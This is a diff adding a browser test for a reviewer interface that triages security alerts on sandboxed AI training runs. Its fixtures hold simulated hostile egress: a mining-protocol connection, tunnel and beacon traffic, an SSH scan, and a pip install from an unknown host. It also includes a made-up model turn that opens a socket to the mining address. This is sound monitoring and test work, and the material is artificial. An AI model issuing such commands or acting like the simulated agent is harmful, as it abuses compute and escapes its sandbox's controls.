@@ -1,0 +1,229 @@
+"""What a reviewer does: hears of an alert, follows it to the turn, rules; and how the pages look meanwhile."""
+
+import time
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from tests.browser.conftest import PASSWORD, Engine, Web, sign_in
+from tests.browser.story import Event, Story
+from tests.browser.test_pictures import FAINT_TEXTS, PICTURES
+from webapp.accounts.models import Membership, Role, User
+from webapp.experiments.sample import Sample
+from webapp.experiments.services import launch_experiment
+from webapp.runs.models import Run
+from webapp.security.models import Alert, Quarantine, Ruling
+
+pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.django_db(transaction=True)]
+PATIENCE_MS = 30_000
+WIDTHS = {1440: 900, 390: 844}
+BOX = "box-7f3a91"
+
+_FINDINGS = [
+    ("mining-stratum", "critical", "Safety & Security", "T1496", "Mining protocol on the wire", "203.0.113.7:4444",
+     ['tcp 203.0.113.7:4444 began with {"id":1,"method":"mining.subscribe"}', "denied: no rule allows it"], True),
+    ("tunnel-service", "critical", "Controllability", "T1572", "Tunnel service", "abc.ngrok.example",
+     ["dns A abc.ngrok.example", "3 attempts within 20 s"], True),
+    ("beacon", "warning", "Controllability", "T1071", "Regular attempts", "198.51.100.23:8443",
+     ["8 denied attempts 30 s apart, within 4 %"], False),
+    ("install-from-nowhere", "warning", "Safety & Security", "T1195", "Package from an unknown host",
+     "pip install --index-url http://198.51.100.9/simple fastmath", ["pip install --index-url http://198.51.100.9/simple"],
+     False),
+]  # fmt: skip
+
+
+class Trouble(Story):
+    """A run whose boxes misbehave in the second step."""
+
+    def record(self, seq: int, **changes: Any) -> dict[str, Any]:
+        attempt = {"box": BOX, "sequence": seq, "at": self.now, "protocol": "tcp", "port": 4444}
+        attempt["address"] = "203.0.113.7"
+        verdict = {"allowed": False, "policy": "python-work", "reason": "no-rule"}
+        return {
+            "seq": seq, "last_at": self.now, "label": "python",
+            **changes, "attempt": attempt | changes.get("attempt", {}), "verdict": verdict | changes.get("verdict", {}),
+        }  # fmt: skip
+
+    def trouble(self, trajectory: str, turn: int = 0) -> list[Event]:
+        place = {"trajectory": trajectory, "turn": turn}
+        allowed = {"allowed": True, "rule": "packages", "reason": "allowed-by-rule"}
+        pypi = {"address": "203.0.113.80", "port": 443, "sni": "pypi.org", "name": "pypi.org", "stage": "opening"}
+        records = [
+            self.record(1, attempt={"protocol": "dns", "name": "pypi.org", "query_type": "A"}, verdict=allowed),
+            self.record(2, attempt=pypi, verdict=allowed, opening_up="FgMBAgABAAH8AwM="),
+            self.record(3, phase="traffic", attempt=pypi | {"sequence": 2}, verdict=allowed, bytes_up=2048,
+                        bytes_down=734_003, packets_up=9, ended="closed"),
+            self.record(4, attempt={"protocol": "dns", "name": "pool." + "x" * 60 + ".example", "query_type": "A"}),
+            self.record(5, opening_up="eyJpZCI6MSwibWV0aG9kIjoibWluaW5nLnN1YnNjcmliZSJ9", ended="denied"),
+            self.record(6, count=240, spread={"addresses": 240, "ports": 1, "names": 0},
+                        attempt={"address": "198.51.100.1", "port": 22}),
+        ]  # fmt: skip
+        return [self.event("egress", box=BOX, place=place, records=records)]
+
+    def alarm(self, number: int, trajectory: str, turn: int = 0) -> Event:
+        rule, severity, category, attack, title, subject, evidence, quarantined = _FINDINGS[number]
+        finding = {
+            "rule": rule, "severity": severity, "category": category, "attack": attack, "title": title, "box": BOX,
+            "at": self.now, "label": "python", "subject": subject, "evidence": evidence,
+            "seq": 5 if number == 0 else None,
+        }  # fmt: skip
+        place = {"trajectory": trajectory, "turn": turn}
+        return self.event("alert", id=f"{BOX}/{number + 1}", place=place, finding=finding, quarantined=quarantined)
+
+    def frozen(self, trajectory: str) -> Event:
+        _, step, group, index = trajectory.split("-")
+        told = self.trajectory("train", int(step), int(group), int(index))
+        code = 'import socket\ns = socket.create_connection(("203.0.113.7", 4444))\ns.send(b"mining.subscribe")'
+        told["turns"] = [
+            self.turn("<user>41 * 17<assistant>", "<tool>print(41 * 17)</tool>", 1, "print(41 * 17)", "697"),
+            self.turn("<output>697</output><assistant>", "<tool>import socket ...</tool>", 1, code, "", "frozen"),
+        ]
+        return self.told(told | {"stop_reason": "frozen", "success": False, "reward": 0.0, "answer": None,
+                                 "masked_because": "quarantined", "alerts": [f"{BOX}/1"]})  # fmt: skip
+
+
+@pytest.fixture
+def rita(sample: Sample) -> User:
+    user = User.objects.create_user("rita@example.org", PASSWORD, name="Rita Reviewer")
+    Membership.objects.create(team=sample.team, user=user, role=Role.REVIEWER)
+    return user
+
+
+@pytest.fixture
+def trouble(web: Web, sample: Sample) -> tuple[Engine, Trouble, Run]:
+    """A run after its first step; nothing is alarming yet."""
+    run = launch_experiment(sample.experiment, acting_user=sample.owner)
+    story = Trouble(steps=30, groups=2, group_size=4, begin_at=time.time() - 60)
+    engine = Engine(web, run, story)
+    engine.tell(story.beginning())
+    engine.tell(story.step(1), 1)
+    return engine, story, run
+
+
+def pictures(page: Page, name: str) -> list[str]:
+    """One per width and theme; returns what is wrong with them."""
+    faults = []
+    for theme in ("light", "dark"):
+        page.emulate_media(color_scheme=theme)
+        for width, height in WIDTHS.items():
+            page.set_viewport_size({"width": width, "height": height})
+            page.wait_for_timeout(150)
+            page.screenshot(path=PICTURES / f"security-{name}-{width}-{theme}.png", full_page=width == 390)
+            if page.evaluate("document.documentElement.scrollWidth > innerWidth"):
+                faults.append(f"{name} is wider than {width} px")
+            faults += [f"{name} {theme} {width}: {fault}" for fault in page.evaluate(FAINT_TEXTS)[:3]]
+    page.emulate_media(color_scheme="light")
+    page.set_viewport_size({"width": 1440, "height": 900})
+    return faults
+
+
+def test_a_reviewer_follows_an_alert_to_its_turn_and_rules(
+    web: Web, rita: User, trouble: Any, tab: Callable[..., Page], complaints: list[str]
+) -> None:
+    engine, story, run = trouble
+    PICTURES.mkdir(parents=True, exist_ok=True)
+    page = tab()
+    sign_in(page, web, rita)
+    bell = page.locator(".nav [data-open-alerts]")
+    expect(page.locator("html")).to_have_attribute("data-alerts", "live", timeout=PATIENCE_MS)
+    expect(bell).to_be_hidden()
+    page.goto(f"{web.url}/alerts/")
+    expect(page.get_by_text("No open alerts")).to_be_visible()
+    faults = pictures(page, "inbox-empty")
+
+    held = "train-2-0-1"
+    engine.tell([*story.trouble(held, 1), story.alarm(0, held, 1)], 1)
+    expect(bell).to_have_text("1", timeout=PATIENCE_MS)
+    expect(page.locator("tr[data-alert]")).to_have_count(1, timeout=PATIENCE_MS)
+    engine.tell([story.alarm(1, "train-2-1-0"), story.alarm(2, "train-2-1-2"), story.alarm(3, "train-2-1-3")], 1)
+    expect(page.locator("tr[data-alert]")).to_have_count(4, timeout=PATIENCE_MS)
+    engine.tell([story.frozen(held)], 2)
+    faults += pictures(page, "inbox")
+
+    # By keyboard to the oldest alert, and from it to the turn.
+    for _ in range(4):
+        page.keyboard.press("j")
+    expect(page.locator("tr.is-selected")).to_contain_text("Mining protocol")
+    page.keyboard.press("k")
+    expect(page.locator("tr.is-selected")).to_contain_text("Tunnel service")
+    page.keyboard.press("j")
+    page.keyboard.press("Enter")
+    page.wait_for_url(f"{web.url}/alerts/*/")
+    expect(page.locator(".evidence")).to_contain_text("mining.subscribe")
+    expect(page.locator("tr[aria-current]")).to_contain_text("203.0.113.7:4444")
+    faults += pictures(page, "alert")
+    page.locator("body").press("Enter")
+    page.wait_for_url(f"**/trajectories/{held}/#turn-2")
+    expect(page.locator("#turn-2 .told")).to_contain_text("244 attempts to reach something: 242 denied, 2 allowed")
+    expect(page.locator("#turn-2")).to_be_in_viewport()
+    page.evaluate("scrollTo(0, 0)")
+    faults += pictures(page, "trajectory")
+
+    # The question is asked before anything happens, and "not now" means not now.
+    page.keyboard.press("1")
+    expect(page.locator("#ruling-title")).to_have_text(f"Rule {held} benign?")
+    expect(page.locator("#ruling-dialog")).to_contain_text("if at most 8 updates happened")
+    page.screenshot(path=PICTURES / "security-ruling-1440-light.png")
+    page.get_by_role("button", name="Not now").click()
+    assert Quarantine.objects.get(trajectory_id=held).state == "pending"
+    page.get_by_label("Note").first.fill("A tutorial asked for it.")
+    page.locator("h1").click()
+    page.keyboard.press("1")
+    page.keyboard.press("Enter")
+    expect(page.locator(".notices")).to_contain_text("is ruled benign (ruling 1)", timeout=PATIENCE_MS)
+    expect(page.locator(".standing")).to_contain_text("Ruled benign")
+    expect(page.locator(".quarantine .note")).to_have_text("A tutorial asked for it.")
+    expect(bell).to_have_text("3")
+    assert Ruling.objects.get().note == "A tutorial asked for it."
+
+    # A change of mind is a second ruling; the engine hears of the newest.
+    page.get_by_role("button", name="Malicious").click()
+    expect(page.locator(".standing")).to_contain_text("Ruled malicious", timeout=PATIENCE_MS)
+    expect(page.locator(".history li")).to_have_count(2)
+    faults += pictures(page, "trajectory-ruled")
+
+    page.goto(f"{web.url}/runs/{run.id}/?tab=security")
+    expect(page.locator("#security .figures")).to_contain_text("244", timeout=PATIENCE_MS)
+    engine.tell([story.event("egress", box="box-2", records=[story.record(1, attempt={"box": "box-2"})])], 2)
+    expect(page.locator("#security .figure").first).to_contain_text("245", timeout=PATIENCE_MS)
+    page.get_by_label("Verdict").select_option("allowed")
+    expect(page.locator("#security .records tbody tr")).to_have_count(3, timeout=PATIENCE_MS)
+    page.get_by_role("link", name="Clear").click()
+    expect(page.locator("#security .records tbody tr")).to_have_count(7, timeout=PATIENCE_MS)
+    faults += pictures(page, "run")
+    page.goto(f"{web.url}/alerts/rules/#mining-stratum")
+    faults += pictures(page, "rules")
+    page.goto(f"{web.url}/runs/{run.id}/trajectories/?quarantine=quarantined")
+    expect(page.locator("#trajectories tbody tr")).to_have_count(1)
+    expect(page.locator("#trajectories tbody tr")).to_contain_text("malicious")
+    faults += pictures(page, "trajectories")
+    assert faults == []
+    assert complaints == []
+
+
+def test_the_inbox_rules_by_keyboard_and_another_reviewer_sees_it(
+    web: Web, rita: User, sample: Sample, trouble: Any, tab: Callable[..., Page], complaints: list[str]
+) -> None:
+    engine, story, _ = trouble
+    engine.tell([story.alarm(0, "train-2-0-1"), story.alarm(1, "train-2-1-0")], 1)
+    hers, his = tab(), tab()
+    sign_in(hers, web, rita)
+    sign_in(his, web, sample.owner)
+    for page in (hers, his):
+        page.goto(f"{web.url}/alerts/")
+        expect(page.locator("tr[data-alert]")).to_have_count(2)
+        expect(page.locator("html")).to_have_attribute("data-alerts", "live", timeout=PATIENCE_MS)
+    hers.keyboard.press("j")
+    hers.keyboard.press("2")
+    expect(hers.locator("#ruling-title")).to_have_text("Rule train-2-1-0 malicious?")
+    hers.keyboard.press("Enter")
+    expect(hers.locator(".notices")).to_contain_text("is ruled malicious", timeout=PATIENCE_MS)
+    for page in (hers, his):
+        expect(page.locator("tr[data-alert]")).to_have_count(1, timeout=PATIENCE_MS)
+        expect(page.locator(".nav [data-open-alerts]")).to_have_text("1", timeout=PATIENCE_MS)
+    his.keyboard.press("?")
+    expect(his.locator("#keys-dialog")).to_contain_text("Rule it malicious")
+    assert Alert.objects.filter(state="open").count() == 1
+    assert complaints == []
